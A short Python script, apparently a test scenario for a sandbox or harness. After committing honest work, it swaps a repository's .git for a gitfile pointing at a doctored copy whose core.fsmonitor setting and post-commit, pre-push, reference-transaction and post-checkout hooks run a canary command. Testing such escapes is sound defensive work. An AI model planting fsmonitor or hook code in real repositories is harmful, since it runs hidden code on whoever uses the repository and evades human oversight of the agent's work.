"""Commit honest work, then replace .git by a gitfile pointing at a doctored copy that runs our code."""
import shutil
import sys; sys.path.insert(0, __import__("os").path.dirname(__file__))  # noqa: E702
from hostile import *  # noqa: F401,F403

honest_mul()
commit("Add mul")
fake = LOOT / "moved.git"
shutil.copytree(WORK / ".git", fake, symlinks=True)
with open(fake / "config", "a") as fh:
    fh.write(f'[core]\n\tfsmonitor = "{canary_sh("gitfile")}; echo"\n')
for name in ("post-commit", "pre-push", "reference-transaction", "post-checkout"):
    write(f"hooks/{name}", f"#!/bin/sh\n{canary_sh('gitfile-hook')}\n", fake).chmod(0o755)
shutil.rmtree(WORK / ".git")
(WORK / ".git").write_text(f"gitdir: {fake}\n")
say("done")
